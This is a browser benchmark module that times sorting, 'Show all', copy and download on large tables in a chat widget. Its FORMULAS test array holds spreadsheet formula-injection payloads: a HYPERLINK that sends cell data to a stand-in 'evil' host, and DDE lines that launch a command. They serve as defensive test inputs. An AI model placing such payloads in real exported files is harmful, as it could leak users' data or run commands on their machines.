// Table actions on hostile tables, part of `npm run bench -- hostile` (bench/hostile.mjs): the
// longest main-thread task from a press (sort, "Show all", copy and download) until its result is
// on screen, against the 50 ms budget (docs/hardening.md, docs/charts.md "Tables").
//
// METHOD
// - The table is a stored reply (bench/hostile.mjs's service), opened from history and left to
//   render completely (every row in the DOM, the first 200 shown) before the trace starts.
// - sort: one press on the Orders header (numbers, in reverse of the table's order); the window
//   ends when the header says `aria-sort="ascending"` and the first shown row is the last one.
// - show all: the "Show all" press, then the table's scroll box scrolled to its middle and end;
//   the window ends once the rows there are shown.
// - formula cells: "Copy table", then "Download CSV" (two presses, two tasks), on a table of 5,000
//   formula cells.
// - Longest `RunTask` (wall clock and CPU time) from the CDP trace, as for the reply shapes. A page
//   error fails the run (130,000 rows once threw a RangeError).
import { measuredWindow, openBenchPage } from './lib.mjs';

/** n rows whose Orders column falls from n to 1, written by `orders` (a number by default). */
const table = (n, orders = (k) => `${k}`) =>
  `| Region | Orders | Total |\n|:--|--:|--:|\n${Array.from({ length: n }, (_, i) => `| Region ${i} | ${orders(n - i)} | ${i * 7}.00 |`).join('\n')}\n`;
/** n rows of a note of `chars` characters each, after the three columns of `table`. */
const noted = (n, chars) =>
  table(n)
    .replace('| Total |\n|:--|--:|--:|', '| Total | Note |\n|:--|--:|--:|:--|')
    .replace(/\.00 \|$/gm, `.00 | ${'lorem ipsum dolor '.repeat(chars / 18 + 1).slice(0, chars)} |`);
/** k as a size, in bytes and kB by turns (one quantity in two units, read in one: src/cells/values.ts). */
const size = (k) => (k % 2 ? `${k * 1024} bytes` : `${k} kB`);
/** The k-th day after 1 Jan 2000 as `Mar 15, 2024`. */
export const named = (k) =>
  new Date(Date.UTC(2000, 0, k)).toLocaleDateString('en-US', {
    month: 'short',
    day: 'numeric',
    year: 'numeric',
    timeZone: 'UTC',
  });
const FORMULAS = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  "=cmd\\|' /C calc'!A0",
  '@SUM(1+1)',
  "+1+cmd\\|' /C calc'!A0",
  '&#9;=1+1',
];
const formulas = (n) =>
  `| Note | Amount |\n|---|--:|\n${Array.from({ length: n }, (_, i) => `| ${FORMULAS[i % 5]} | ${-i} |`).join('\n')}\n`;

// The elements the steps poll are found once, before the trace: `querySelectorAll` over a shadow
// root holding 130,000 rows walks every node (tens of ms), which would be measured as the
// widget's own task.
const findElements = () => {
  const root = document.querySelector('[data-service-widget]').shadowRoot;
  const th = root.querySelector('th:nth-child(2)');
  const body = root.querySelector('tbody');
  window.__swBench = {
    root,
    th,
    body,
    box: root.querySelector('.table-scroll'),
    actions: root.querySelector('.table-block .actions'),
  };
};

/** In the page: presses the Orders header; true once the sorted order is shown. */
const sortPress = () => window.__swBench.th.querySelector('button').click();
const sortDone = (n) => {
  const { th, body } = window.__swBench;
  if (th.getAttribute('aria-sort') !== 'ascending') return false;
  let first = body.firstElementChild;
  while (first?.hidden) first = first.nextElementSibling;
  return first?.cells[0].textContent === `Region ${n - 1}`;
};
const showAllPress = () =>
  [...window.__swBench.actions.children].find((b) => b.textContent.startsWith('Show all')).click();
/** In the page: scrolls the table to `f` of its height; true once a row is shown in the box's middle. */
const scrolledTo = (f) => {
  const { box, root } = window.__swBench;
  if (box.dataset.benchAt !== String(f)) {
    box.scrollTop = (box.scrollHeight - box.clientHeight) * f;
    box.dataset.benchAt = String(f);
  }
  const r = box.getBoundingClientRect();
  return !!root.elementFromPoint(r.left + 20, r.top + r.height / 2)?.closest('tbody tr');
};
/** In the page: scrolls the table to `f` of its height; true once shown rows cover the whole box. */
const filledAt = (f) => {
  const { box, body } = window.__swBench;
  // Functions go to the page as text: scrolledTo's scrolling, again.
  if (box.dataset.benchAt !== String(f)) {
    box.scrollTop = (box.scrollHeight - box.clientHeight) * f;
    box.dataset.benchAt = String(f);
  }
  const shown = [...body.children].filter((r) => !r.hidden);
  const b = box.getBoundingClientRect();
  const top = b.top + box.querySelector('thead').getBoundingClientRect().height;
  return (
    shown[0].getBoundingClientRect().top <= top + 1 &&
    shown.at(-1).getBoundingClientRect().bottom >= b.top + box.clientHeight - 1
  );
};
// Two presses, each its own task (as a visitor's two clicks are): copy, then download.
const copyPress = () => {
  window.__swBenchCopied = null;
  navigator.clipboard.writeText = async (t) => void (window.__swBenchCopied = t);
  URL.createObjectURL = (b) => ((window.__swBenchBlob = b), 'blob:bench');
  HTMLAnchorElement.prototype.click = () => undefined;
  window.__swBench.actions.querySelector('[part~="copy-table-button"]').click();
};
const copyDone = () => typeof window.__swBenchCopied === 'string';
const downloadPress = () => window.__swBench.actions.querySelector('[part~="download-table-button"]').click();
const downloadDone = () => !!window.__swBenchBlob;

/**
 * The shapes: [name, reply text, steps (in-page press + done test), budget]. The budget is 50 ms up
 * to 25,000 rows (docs/protocol.md section 4.5); 130,000 rows have none: they must not throw.
 */
export const TABLE_SHAPES = [
  ['sort a table of 3,000 rows', () => table(3_000), [[sortPress, sortDone, 3_000]]],
  ['sort a table of 25,000 rows', () => table(25_000), [[sortPress, sortDone, 25_000]]],
  ['sort 25,000 sizes in two units (bytes, kB)', () => table(25_000, size), [[sortPress, sortDone, 25_000]]],
  ['sort 25,000 dates written Mar 15, 2024', () => table(25_000, named), [[sortPress, sortDone, 25_000]]],
  [
    'sort 200 texts of 990 characters (no rows hidden)',
    () => table(200, (k) => `${'x'.repeat(990)}${String(k).padStart(5, '0')}`),
    [[sortPress, sortDone, 200]],
  ],
  [
    'sort 1,000 texts of 990 characters (1 MB)',
    () => table(1_000, (k) => `${'x'.repeat(990)}${String(k).padStart(5, '0')}`),
    [[sortPress, sortDone, 1_000]],
  ],
  [
    'sort 1,000 numbers of 990 dots each (1 MB)',
    () => table(1_000, (k) => `${k}${'.'.repeat(990)}x`),
    [[sortPress, sortDone, 1_000]],
  ],
  [
    'sort a table of 130,000 rows (4.8 MB; no budget, must not throw)',
    () => table(130_000),
    [[sortPress, sortDone, 130_000]],
    null,
  ],
  [
    '"Show all" on 25,000 rows, scrolled to the middle and the end',
    () => table(25_000),
    [
      [showAllPress, () => true],
      [() => 0, scrolledTo, 0.5],
      [() => 0, scrolledTo, 1],
    ],
  ],
  [
    // The renderer shows one such row (40,000 characters at most); the window grows to fill the box.
    '"Show all" on 30 rows of 30 KB of text, filled at the top, the middle and the end',
    () => noted(30, 30_000),
    [
      [showAllPress, filledAt, 0],
      [() => 0, filledAt, 0.5],
      [() => 0, filledAt, 1],
    ],
  ],
  [
    'copy and download 5,000 formula cells',
    () => formulas(5_000),
    [
      [copyPress, copyDone],
      [downloadPress, downloadDone],
    ],
  ],
];

/** One shape: the stored conversation opened and rendered, then each step traced. */
export async function measureTableShape(h, service, pageUrl, pageInit, steps) {
  const { context, page, errors } = await openBenchPage(h, service, pageUrl, pageInit);
  try {
    await page.evaluate(
      () => (window.__swBenchRoot = () => document.querySelector('[data-service-widget]').shadowRoot),
    );
    const shadow = page.locator('[data-service-widget]');
    await shadow.locator('[part~="composer-input"]').waitFor();
    await shadow.locator('[part~="history-button"]').click();
    await shadow.locator('[part~="history-item"]').first().click();
    await page.waitForFunction(() => !!window.__swBenchRoot().querySelector('[part~="copy-table-button"]'), null, {
      timeout: 600_000,
      polling: 200,
    });
    await page.evaluate(findElements);
    const measured = await measuredWindow(context, page, pageUrl, { quietMs: 500 });
    for (const [press, done, arg] of steps) {
      await page.evaluate(press);
      await page.waitForFunction(done, arg, { timeout: 120_000, polling: 50 });
    }
    const { wallS, traced } = await measured.end();
    if (errors.length) throw new Error(`page errors: ${errors.join('; ')}`);
    return { ms: traced.longestMs, cpuMs: traced.longestCpuMs, wallS };
  } finally {
    await context.close().catch(() => undefined);
  }
}
